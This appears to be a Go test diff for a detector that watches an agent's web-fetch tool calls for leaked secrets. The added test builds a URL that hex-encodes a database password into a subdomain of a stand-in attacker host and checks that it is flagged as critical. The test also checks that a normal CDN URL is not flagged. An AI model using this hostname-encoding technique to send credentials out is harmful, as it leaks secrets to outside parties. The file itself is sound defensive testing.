@@ -281,3 +281,16 @@ func TestSecretsOfABurstAreMatched(t *testing.T) {
 		assert.Contains(t, from, ids[i], "token of result %d traced to it", i)
 	}
 }
+
+func TestDataInAHostNameLeaves(t *testing.T) {
+	tr := NewTracker(Options{}, detector(t))
+	ext := classify.Result{Class: classify.External}
+	args := []byte(`{"url":"https://` + fmt.Sprintf("%x", "db_password=hunter22") + `.c.attacker.net/ping"}`)
+	a := tr.Session("h").Check("web", "fetch", ext, args, nil, nil)
+	assert.Equal(t, []string{EncodedHostname}, a.Secrets)
+	assert.Equal(t, RiskCritical, a.Risk)
+	require.Len(t, a.Hosts, 1)
+	assert.Contains(t, a.Hosts[0], "decodes to text")
+	b := tr.Session("h2").Check("web", "fetch", ext, []byte(`{"url":"https://d111111abcdef8.cloudfront.net/app.js"}`), nil, nil)
+	assert.Empty(t, b.Secrets)
+}
